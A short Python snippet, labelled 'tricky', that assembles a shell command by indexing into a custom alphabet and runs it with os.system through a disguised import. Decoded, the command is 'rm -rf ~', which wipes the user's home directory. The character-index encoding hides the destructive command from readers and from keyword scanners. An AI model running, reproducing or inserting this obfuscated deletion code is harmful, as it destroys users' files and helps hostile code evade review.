# tricky: letters out of an alphabet
import os as _
a = "abcdefghijklmnopqrstuvwxyz -/~"
_.system("".join(a[i] for i in [17, 12, 26, 27, 17, 5, 26, 29]))
